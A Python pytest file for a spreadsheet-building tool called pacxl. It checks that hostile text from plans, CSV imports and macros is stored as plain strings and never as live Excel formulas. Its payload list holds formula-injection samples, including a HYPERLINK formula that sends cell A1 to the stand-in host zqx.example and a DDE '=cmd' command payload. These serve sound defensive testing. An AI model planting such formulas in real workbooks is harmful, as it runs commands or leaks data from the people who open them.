"""Text is never a formula (issue 11): every text pacxl writes from a plan, a source file or
another workbook lands as a string cell holding exactly what was typed.

The workbooks are inspected as Excel reads them: the sheets' XML, with OOXML's ``_xHHHH_``
escapes decoded as Excel decodes them, and every ``<f>`` / ``<formula>`` element checked for the
payloads. Every payload carries the marker ``zqx``, which no formula of pacxl holds.
"""

from __future__ import annotations

import dataclasses
import hashlib
import re
import shutil
import subprocess
import typing
import zipfile
from pathlib import Path
from xml.etree import ElementTree as ET

import openpyxl
import pytest
import yaml
from click.testing import CliRunner
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from pacxl.cli import main
from pacxl.defaults import blank_plan
from pacxl.model import KPI, Action, BudgetLine, Customer, Plan
from pacxl.workbook.build import build_workbook
from pacxl.workbook.cells import cell_value, decode_text, encode_text
from pacxl.workbook.read import read_plan

NS = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
MARK = "zqx"

#: What an attacker or a careless paste puts in a text field. Each gets " zqx<n>" appended.
PAYLOADS = [
    '=HYPERLINK("http://zqx.example/?d="&A1,"Cliquez ici")',
    "=1+1",
    "+33 1 23 45 67 89",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "   =1+1",
    "＝1+1",
    "=> Service après-vente en 48 h",
    "' =HYPERLINK(\"http://zqx.example\")",
    "=cmd|' /C calc'!A0",
    "_x0041_ stays _x0041_, _x005F_ too",
    "_x00e9__x000D_",
    "[/bold] [red]not red[/red]",
    "a\x01b\x1fc\x0bd",
    "ligne 1\r\nligne 2",
    "{0} {name} %s",
    "Aéraulis – 12 €",
]

#: str fields of the model that are codes, not free text (validated elsewhere).
NOT_FREE_TEXT = {"plan.settings.lang", "plan.settings.abc_basis"}


class Texts:
    """Hands out one hostile text per field, remembering which went where."""

    def __init__(self, payloads=PAYLOADS):
        self.payloads, self.typed = payloads, {}

    def take(self, path: str) -> str:
        n = len(self.typed)
        value = f"{self.payloads[n % len(self.payloads)]} {MARK}{n}"
        self.typed[path] = value
        return value


def hostile(cls, where: str, texts: Texts) -> dict:
    """A dict for ``cls`` (a model dataclass) whose every free-text field holds a payload: the
    fields are found from the dataclasses' type hints, so a new text field is covered."""
    hints = typing.get_type_hints(cls)
    out = {}
    for f in dataclasses.fields(cls):
        tp, path = hints[f.name], f"{where}.{f.name}"
        origin, args = typing.get_origin(tp), typing.get_args(tp)
        if path in NOT_FREE_TEXT:
            continue
        if tp is str:
            out[f.name] = texts.take(path)
        elif origin is list and args == (str,):
            out[f.name] = [texts.take(path + "[1]")]
        elif origin is dict:
            out[f.name] = {texts.take(path + ".key"): texts.take(path + ".value")}
        elif origin is list and args and dataclasses.is_dataclass(args[0]):
            out[f.name] = [hostile(args[0], path + "[1]", texts)]
        elif dataclasses.is_dataclass(tp):
            out[f.name] = hostile(tp, path, texts)
    return out


def hostile_plan(lang: str) -> tuple[dict, dict[str, str]]:
    texts = Texts()
    data = hostile(Plan, "plan", texts)
    data["settings"]["lang"] = lang
    return data, texts.typed


# --- reading a workbook as Excel does ---------------------------------------------------------


def excel_decode(text: str) -> str:
    """What Excel shows for a stored string: every _xHHHH_ is the character U+HHHH."""
    return re.sub(r"_x([0-9A-Fa-f]{4})_", lambda m: chr(int(m.group(1), 16)), text)


def sheet_xml(path: Path):
    """(texts of every string cell as Excel shows them, text of every formula element)."""
    texts, formulas = [], []
    with zipfile.ZipFile(path) as z:
        shared = []
        if "xl/sharedStrings.xml" in z.namelist():
            root = ET.fromstring(z.read("xl/sharedStrings.xml"))
            shared = ["".join(t.text or "" for t in si.iter(NS + "t")) for si in root.iter(NS + "si")]
        for name in z.namelist():
            if not re.fullmatch(r"xl/worksheets/sheet\d+\.xml", name):
                continue
            root = ET.fromstring(z.read(name))
            for c in root.iter(NS + "c"):
                kind = c.get("t")
                if kind == "inlineStr":
                    texts.append(excel_decode("".join(t.text or "" for t in c.iter(NS + "t"))))
                elif kind == "s":
                    texts.append(excel_decode(shared[int(c.find(NS + "v").text)]))
            for tag in ("f", "formula", "formula1", "formula2"):
                formulas += [el.text or "" for el in root.iter(NS + tag)]
    return texts, formulas


def assert_text_only(path: Path, typed: typing.Iterable[str] = ()) -> None:
    """No formula of ``path`` holds a payload; each of ``typed`` is a string cell's exact text."""
    texts, formulas = sheet_xml(path)
    armed = [f for f in formulas if MARK in f.lower()]
    assert not armed, f"payloads became formulas: {armed[:3]}"
    shown = set(texts)
    missing = [t for t in typed if t not in shown]
    assert not missing, f"not stored as typed: {missing[:3]!r}"
    wb = openpyxl.load_workbook(path)
    read = {cell_value(c) for ws in wb.worksheets for row in ws.iter_rows() for c in row
            if c.data_type == "s"}
    assert not [t for t in typed if t not in read], "pacxl does not read its own text back"


def digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


# --- the text writer ----------------------------------------------------------------------------


@pytest.mark.parametrize("text", PAYLOADS + ["", "_x", "_x123_", "_xABCD\x01", "_x005F_x0041_", "\ufffe\uffff"])
def test_encoding_round_trips_and_is_what_excel_shows(text):
    stored = encode_text(text)
    assert decode_text(stored) == text
    assert excel_decode(stored) == text  # Excel and LibreOffice decode every _xHHHH_
    assert not re.search("[\x00-\x08\x0b-\x1f]", stored)  # nothing XML cannot hold


# --- plans: every free-text field hostile -------------------------------------------------------


def test_every_text_field_of_the_model_is_covered():
    _, typed = hostile_plan("fr")
    # a sample of the fields the issue found as formulas, to catch a broken enumeration
    for path in ("plan.settings.company", "plan.settings.owners[1]", "plan.segments[1].persona",
                 "plan.review.lines[1].comment", "plan.swot.strengths[1]", "plan.swot.value_proposition.value",
                 "plan.key_dates[1].label", "plan.objectives[1].relevant", "plan.budget[1].label",
                 "plan.kpis[1].unit", "plan.customers[1].code", "plan.actions[1].kpi"):
        assert path in typed
    assert len(typed) > 50


@pytest.mark.parametrize("lang", ["fr", "en"])
def test_a_plan_whose_every_text_is_hostile_is_written_as_text(tmp_path, lang):
    data, typed = hostile_plan(lang)
    out = build_workbook(Plan.from_dict(data), tmp_path / "plan.xlsx")
    assert_text_only(out, typed.values())
    plan = read_plan(out)  # and pacxl reads the texts back (its reader trims spaces)
    assert plan.settings.company == typed["plan.settings.company"].strip()
    assert plan.swot.strengths == [typed["plan.swot.strengths[1]"].strip()]
    assert plan.review.lines[0].comment == typed["plan.review.lines[1].comment"].strip()


def test_new_from_a_yaml_plan_writes_text(tmp_path):
    data, typed = hostile_plan("fr")
    src = tmp_path / "plan.yaml"
    src.write_text(yaml.safe_dump(data, allow_unicode=True), encoding="utf-8")
    assert yaml.safe_load(src.read_text(encoding="utf-8")) == data  # (the payloads survive YAML)
    res = CliRunner().invoke(main, ["new", str(tmp_path / "out.xlsx"), "--from", str(src)])
    assert res.exit_code == 0, res.output
    assert_text_only(tmp_path / "out.xlsx", typed.values())


def test_new_with_hostile_company_and_owners(tmp_path):
    company = f'=HYPERLINK("http://{MARK}.example","x")'
    res = CliRunner().invoke(main, ["new", str(tmp_path / "p.xlsx"), "--company", company,
                                    "--owners", f"=1+1 {MARK},Bob,@{MARK}()"])
    assert res.exit_code == 0, res.output
    assert_text_only(tmp_path / "p.xlsx", [company, f"=1+1 {MARK}", "Bob", f"@{MARK}()"])


def test_a_text_longer_than_a_cell_is_refused_not_cut(tmp_path):
    res = CliRunner().invoke(main, ["new", str(tmp_path / "p.xlsx"), "--company", "Acme " + "x" * 40000])
    assert res.exit_code == 2
    assert res.stderr == ('Error: Guide!A2: the text "Plan 2027 - Acme xxxxxxxxxxxxx..." has 40017 characters; '
                          "a cell holds at most 32767\n")
    assert list(tmp_path.iterdir()) == []


# --- consolidate ----------------------------------------------------------------------------------


def test_consolidate_does_not_rearm_text(tmp_path):
    p = blank_plan("fr", year=2027, company="Acme", owners=["Alice"])
    link = f' =HYPERLINK("http://{MARK}.example","clic")'
    p.actions = [Action("A1", action=link, owner="Alice")]
    p.swot.strengths = [f"=> Service après-vente en 48 h {MARK}"]
    p.kpis = [KPI("K1", f"=1+1 {MARK}", "count", plan=[1.0] * 12)]
    build_workbook(p, tmp_path / "alice.xlsx")
    res = CliRunner().invoke(main, ["consolidate", str(tmp_path / "alice.xlsx"), "-o", str(tmp_path / "team.xlsx")])
    assert res.exit_code == 0, res.output
    # the reader trims the leading space; what is left is text, and the "=>" note is not lost
    assert_text_only(tmp_path / "team.xlsx", [link.strip(), p.swot.strengths[0], f"=1+1 {MARK}"])
    team = read_plan(tmp_path / "team.xlsx")
    assert team.swot.strengths == [p.swot.strengths[0]]


# --- imports --------------------------------------------------------------------------------------

HOSTILE_LABELS = [f"=1+1 {MARK}", f"_x0041_ {MARK}", f"@{MARK}()", f"+{MARK}1", f"-{MARK}2-", f"\t={MARK}3",
                  f"[/bold]{MARK}4"]  # (distinct once normalized: the budget import sums equal labels)


@pytest.fixture
def plan_path(tmp_path):
    p = blank_plan("fr", year=2027, company="Acme", owners=["Alice"])
    p.settings.budget_categories = ["[/bold]", "Digital"]
    p.kpis = [KPI(f"=K1{MARK}", f"[/bold] {MARK}", "count", plan=[1.0] * 12),
              KPI(f"_x0041_{MARK}", "B", "count", plan=[1.0] * 12)]
    return build_workbook(p, tmp_path / "plan.xlsx")


def write(tmp_path, name, text):
    path = tmp_path / name
    path.write_text(text, encoding="utf-8")
    return path


def test_budget_import_with_hostile_labels_and_markup_category(plan_path, tmp_path):
    rows = "".join(f'"{label}";[/bold];01/2027;{i + 1}\n' for i, label in enumerate(HOSTILE_LABELS))
    src = write(tmp_path, "budget.csv", "Libellé;Catégorie;Mois;Montant\n" + rows)
    res = CliRunner().invoke(main, ["import", "budget", str(plan_path), str(src)])
    assert res.exit_code == 0, res.output
    assert "[/bold]" in res.stdout  # the category, printed as it is (rich markup not run)
    assert_text_only(plan_path, [t.strip() for t in HOSTILE_LABELS])  # (the source reader trims cells)
    # importing again in append mode does not escape the kept text twice
    res = CliRunner().invoke(main, ["import", "budget", str(plan_path), str(src), "--append"])
    assert res.exit_code == 0, res.output
    texts, _ = sheet_xml(plan_path)
    assert texts.count(f"_x0041_ {MARK}") == 2


def test_customers_import_keeps_hostile_names_and_codes(plan_path, tmp_path):
    for extra, end in (([], ""), (["--append"], "b")):  # append: the kept rows are written again
        rows = "".join(f'"{label}{end}";"{label}";{i + 1}000\n' for i, label in enumerate(HOSTILE_LABELS))
        src = write(tmp_path, "clients.csv", "Code client;Raison sociale;CA\n" + rows)
        res = CliRunner().invoke(main, ["import", "customers", str(plan_path), str(src), *extra])
        assert res.exit_code == 0, res.output
    labels = [t.strip() for t in HOSTILE_LABELS]  # (the source reader trims cells)
    assert_text_only(plan_path, labels + [t + "b" for t in labels])
    codes = [c.code for c in read_plan(plan_path).customers]
    assert {f"_x0041_ {MARK}", f"_x0041_ {MARK}b", f"=1+1 {MARK}", f"=1+1 {MARK}b"} <= set(codes)


def test_actuals_import_finds_kpis_by_hostile_ids(plan_path, tmp_path):
    src = write(tmp_path, "reel.csv", f"Indicateur;Mois;Réel\n=K1{MARK};01/2027;5\n_x0041_{MARK};02/2027;7\n")
    res = CliRunner().invoke(main, ["import", "actuals", str(plan_path), str(src)])
    assert res.exit_code == 0, res.output
    kpis = {k.id: k for k in read_plan(plan_path).kpis}
    assert kpis[f"=K1{MARK}"].actual[0] == 5 and kpis[f"_x0041_{MARK}"].actual[1] == 7
    assert_text_only(plan_path, [f"=K1{MARK}", f"_x0041_{MARK}", f"[/bold] {MARK}"])


# --- macros (xlwings: writing a value is typing it) ----------------------------------------------


def test_macros_write_text_that_excel_keeps_as_text(plan_path, tmp_path):
    from pacxl import macros
    from xlwings_fake import FakeBook

    book = FakeBook(openpyxl.load_workbook(plan_path), str(plan_path))
    rows = "".join(f'"{label}";"{label}";{i + 1}000\n' for i, label in enumerate(HOSTILE_LABELS))
    src = write(tmp_path, "clients.csv", "Code client;Raison sociale;CA\n" + rows)
    macros.run_import(book, "customers", file=src)
    macros.run_report(book, month=3)  # KPI names and customers' names go to the Rapport sheet
    macros.run_check(book)
    out = tmp_path / "saved.xlsx"
    book.wb.save(out)  # what Excel would save
    assert_text_only(out, [t.strip() for t in HOSTILE_LABELS] + [f"=K1{MARK}", f"[/bold] {MARK}"])


# --- _xHHHH_ ------------------------------------------------------------------------------------


def test_a_literal_escape_stays_as_typed(tmp_path):
    p = blank_plan("en", year=2027, company="_x0041_ Corp", owners=["Bob_x0042_"])
    p.customers = [Customer("C_x0043_", "_x005F_x0044_", amount=1.0)]
    out = build_workbook(p, tmp_path / "p.xlsx")
    texts, _ = sheet_xml(out)
    assert {"_x0041_ Corp", "Bob_x0042_", "C_x0043_", "_x005F_x0044_"} <= set(texts)  # Excel's view
    back = read_plan(out)
    assert (back.settings.company, back.settings.owners[0]) == ("_x0041_ Corp", "Bob_x0042_")
    assert (back.customers[0].code, back.customers[0].name) == ("C_x0043_", "_x005F_x0044_")


@pytest.mark.libreoffice
def test_a_literal_escape_survives_libreoffice(tmp_path, soffice):
    p = blank_plan("en", year=2027, company="_x0041_ Corp", owners=["a\rb"])
    out = build_workbook(p, tmp_path / "p.xlsx")
    conv = tmp_path / "lo"
    subprocess.run([soffice, f"-env:UserInstallation=file://{tmp_path}/profile", "--headless",
                    "--convert-to", "xlsx", "--outdir", str(conv), str(out)],
                   check=True, capture_output=True, timeout=180)
    again = conv / "p.xlsx"
    texts, _ = sheet_xml(again)  # LibreOffice writes shared strings, with its own escapes
    assert {"_x0041_ Corp", "a\rb"} <= set(texts)
    back = read_plan(again)
    assert back.settings.company == "_x0041_ Corp"


# --- fuzz ---------------------------------------------------------------------------------------

PREFIXES = ["=", "+", "-", "@", "\t", "\r", " ", "＝", "'", "[/", "[bold]", "_x0041_", "_x005F_", "_x"]
hostile_text = st.builds(
    lambda pre, body, long: pre + body + (" " * 3 + "x" * 300 if long else "") + f" {MARK}",
    st.sampled_from(PREFIXES),
    st.text(st.characters(blacklist_categories=("Cs",)), max_size=30),
    st.booleans(),
).filter(lambda t: ";" not in t and '"' not in t and "\n" not in t and "\r" not in t[1:] and "\x00" not in t)
FUZZ = settings(max_examples=30, deadline=None, derandomize=True,
                suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow,
                                       HealthCheck.filter_too_much])


@FUZZ
@given(company=hostile_text, owner=hostile_text, action=hostile_text, label=hostile_text)
def test_fuzz_plans_are_written_as_text(tmp_path_factory, company, owner, action, label):
    folder = tmp_path_factory.mktemp("fuzzplan")
    p = blank_plan("fr", year=2027, company=company, owners=[owner.strip() or "x"])
    p.actions = [Action("A1", action=action, owner=owner)]
    p.budget = [BudgetLine("B1", label=label, months=[1.0] * 12)]
    p.swot.threats = [label]
    src = folder / "plan.yaml"
    src.write_text(yaml.safe_dump(p.to_dict(), allow_unicode=True), encoding="utf-8")
    res = CliRunner().invoke(main, ["new", str(folder / "p.xlsx"), "--from", str(src)])
    assert res.exit_code in (0, 1, 2), res.output
    assert not isinstance(res.exception, Exception) or isinstance(res.exception, SystemExit), res.exception
    if res.exit_code == 0:
        assert_text_only(folder / "p.xlsx", [company, action, label])


@pytest.fixture(scope="module")
def fuzz_base(tmp_path_factory):
    p = blank_plan("fr", year=2027, company="Acme", owners=["Alice"])
    return build_workbook(p, tmp_path_factory.mktemp("fuzzbase") / "base.xlsx")


@FUZZ
@given(labels=st.lists(hostile_text, min_size=1, max_size=4), amount=st.sampled_from(["12", "abc", "1,5", ""]),
       kind=st.sampled_from(["budget", "customers"]))
def test_fuzz_imports(tmp_path_factory, fuzz_base, labels, amount, kind):
    folder = tmp_path_factory.mktemp("fuzzimport")
    wb = shutil.copy(fuzz_base, folder / "plan.xlsx")
    if kind == "budget":
        body = "Libellé;Catégorie;Mois;Montant\n" + "".join(f"{t};{t};01/2027;{amount}\n" for t in labels)
    else:
        body = "Code client;Raison sociale;CA\n" + "".join(f"{t};{t};{amount}\n" for t in labels)
    src = write(folder, "source.csv", body)
    before = digest(Path(wb))
    res = CliRunner().invoke(main, ["import", kind, str(wb), str(src), "--no-backup"])
    assert res.exit_code in (0, 1, 2), res.output
    assert res.exit_code == 0 or "Traceback" not in res.output
    assert not isinstance(res.exception, Exception) or isinstance(res.exception, SystemExit), res.exception
    if res.exit_code == 0:
        assert_text_only(Path(wb))
    else:
        assert digest(Path(wb)) == before
